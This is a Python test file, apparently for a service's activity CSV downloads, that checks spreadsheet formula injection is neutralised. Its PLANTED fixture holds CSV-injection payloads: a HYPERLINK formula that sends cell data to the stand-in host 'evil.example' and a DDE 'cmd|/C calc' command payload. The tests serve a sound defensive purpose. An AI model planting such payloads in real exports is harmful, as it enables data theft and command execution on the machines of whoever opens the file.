"""Activity CSV downloads safe to open in a spreadsheet (issue 19), on both adapters:
formula cells get a leading `'`, `raw=true` gives the exact text, Submit Time has at
most three fractional digits; and the property that no generated commit yields a
formula cell and that dropping the documented prefix gives the submitted text back."""
from __future__ import annotations

import csv
import io
import itertools
import json
import re

from hypothesis import HealthCheck, event, given, settings, strategies as st

from chalicelib.activity.csv import FORMULA_STARTS, NEUTRAL_PREFIX
from tests.query_strategies import ANY_CHARACTER

SUBMIT_TIME = re.compile(r"[0-9]{4}-[0-9]{2}-[0-9]{2} [0-9]{2}:[0-9]{2}:[0-9]{2}(\.[0-9]{0,2}[1-9])?")
_services = itertools.count()


def post(client, commit, version=2):
    return client.http.post(f"/activity-api/v{version}/events", body=json.dumps({"commit": commit}),
                            headers={"Content-Type": "application/json"})


def download(client, path):
    response = client.http.get(path)
    assert response.status_code == 200, response.body
    return response, list(csv.reader(io.StringIO(response.body.decode("utf-8"), newline="")))


PLANTED = {"service": {"id": "classifier"},
           "subject": {"id": "u1", "name": '=HYPERLINK("http://evil.example/?x="&A1,"click")'},
           "objects": [{"id": "g1", "name": "@SUM(1+1)*cmd|'/C calc'!A0", "type": "node_groups"}],
           "ip_address": "-2+3",
           "events": [{"type": "edit", "what": "node_group", "description": "\tx",
                       "message": "+1+2"}]}


def test_both_csv_downloads_neutralise_the_planted_formulas(client):
    assert post(client, PLANTED).status_code == 201
    for path in ("/activity-api/v1/events.csv?service_id=classifier",
                 "/activity-api/v2/events.csv?service_id=classifier"):
        _, rows = download(client, path)
        row = rows[1]
        assert row[3] == "'" + PLANTED["subject"]["name"]
        assert row[6] == "'" + PLANTED["objects"][0]["name"]
        assert row[9:11] == ["'\tx", "'+1+2"]
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row)


def test_raw_true_gives_the_exact_text_and_json_is_unchanged(client):
    assert post(client, PLANTED).status_code == 201
    _, rows = download(client, "/activity-api/v2/events.csv?service_id=classifier&raw=true")
    assert rows[1][3] == PLANTED["subject"]["name"] and rows[1][10] == "+1+2"
    assert rows[1][11] == "-2+3"
    commit = client.http.get("/activity-api/v2/events?service_id=classifier").json_body["commits"][0]
    assert commit["subject"]["name"] == PLANTED["subject"]["name"]


def test_raw_must_be_true_or_false(client):
    response = client.http.get("/activity-api/v1/events.csv?service_id=classifier&raw=yes")
    assert response.status_code == 400
    assert response.json_body["kind"] == "puppetlabs.activity/invalid-parameter"
    assert response.json_body["details"]["parameter"] == "raw"


def test_submit_time_is_milliseconds_and_stored_so(client):
    commit = {**PLANTED, "timestamp": "2026-11-30T23:29:49.808832Z"}
    assert post(client, commit).status_code == 201
    server_time = {**PLANTED, "service": {"id": "rbac"}}
    assert post(client, server_time).status_code == 201
    _, rows = download(client, "/activity-api/v1/events.csv?service_id=classifier")
    assert rows[1][0] == "2026-11-30 23:29:49.808"
    _, rows = download(client, "/activity-api/v1/events.csv?service_id=rbac")
    assert SUBMIT_TIME.fullmatch(rows[1][0])
    # The Submit Time given back as a filter excludes its own commit: nothing finer is stored.
    after = client.http.get("/activity-api/v1/events?service_id=classifier"
                            "&after_service_commit_time=2026-11-30 23:29:49.808")
    assert after.json_body["total-rows"] == 0


# Any text, lone surrogates included (such a commit must be refused, issue 20 item 1),
# often led by a formula character.
_text = st.text(ANY_CHARACTER, max_size=12)
cell_text = st.one_of(_text, st.builds(lambda lead, rest: lead + rest,
                                       st.sampled_from(FORMULA_STARTS + (NEUTRAL_PREFIX,)), _text))
ids = cell_text.map(lambda text: text if text.strip() else text + "id")
commits = st.fixed_dictionaries({
    "subject": st.fixed_dictionaries({"id": ids, "name": cell_text}),
    "objects": st.lists(st.fixed_dictionaries({"id": ids, "name": cell_text,
                                               "type": st.sampled_from(("node", "users"))}),
                        min_size=1, max_size=2),
    "ip_address": cell_text,
    "timestamp": st.datetimes(timezones=st.just(__import__("datetime").timezone.utc)).map(
        lambda t: t.isoformat()),
    "events": st.lists(st.fixed_dictionaries({"type": cell_text, "what": cell_text,
                                              "description": cell_text, "message": cell_text}),
                       max_size=2),
})


_SPOIL = (lambda c, lone: c["subject"].update(name=c["subject"]["name"] + lone),
          lambda c, lone: c["objects"][0].update(id=lone + c["objects"][0]["id"]),
          lambda c, lone: c.update(ip_address=lone),
          lambda c, lone: c["events"].append({"message": lone}))
# A commit with a lone surrogate in one of its strings: refused, nothing stored.
spoilt_commits = st.builds(lambda commit, spoil, lone: (spoil(commit, lone), commit)[1],
                           commits, st.sampled_from(_SPOIL), st.characters(categories=["Cs"]))


def _is_text(value) -> bool:
    try:
        json.dumps(value, ensure_ascii=False).encode("utf-8")
    except UnicodeEncodeError:
        return False
    return True


def _unprefixed(cell: str) -> str:
    """The documented reversal (README "Activity service API"): drop one leading `'`."""
    return cell[1:] if cell.startswith(NEUTRAL_PREFIX) else cell


def _expected(commit: dict, version: int) -> list[list[str]]:
    objects = commit["objects"] if version == 2 else commit["objects"][:1]
    rows = []
    for obj in objects:
        for event in commit["events"] or [{}]:
            row = [commit["subject"]["id"], commit["subject"]["name"], obj["type"], obj["id"],
                   obj["name"]] + [event.get(k, "") for k in ("type", "what", "description",
                                                              "message")]
            rows.append(row + ([commit["ip_address"]] if version == 2 else []))
    return rows


@settings(max_examples=30, deadline=None, derandomize=True,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(st.lists(st.one_of(commits, spoilt_commits), min_size=1, max_size=3))
def test_no_generated_commit_yields_a_formula_cell_and_the_text_comes_back(client, generated):
    service = f"svc{next(_services)}"
    stored = []
    for commit in generated:
        commit = json.loads(json.dumps(commit))       # as the server decodes it
        response = post(client, {**commit, "service": {"id": service}})
        if _is_text(commit):
            assert response.status_code == 201
            stored.append(commit)
        else:
            assert response.status_code == 400
            event("a commit with a lone surrogate, refused")
    for version in (1, 2):
        _, rows = download(client, f"/activity-api/v{version}/events.csv?service_id={service}"
                                   "&order=asc")
        data = rows[1:]
        assert not any(cell.startswith(FORMULA_STARTS) for row in data for cell in row)
        assert all(SUBMIT_TIME.fullmatch(row[0]) for row in data)
        expected = [row for commit in stored for row in _expected(commit, version)]
        assert [[_unprefixed(cell) for cell in row[2:]] for row in data] == expected
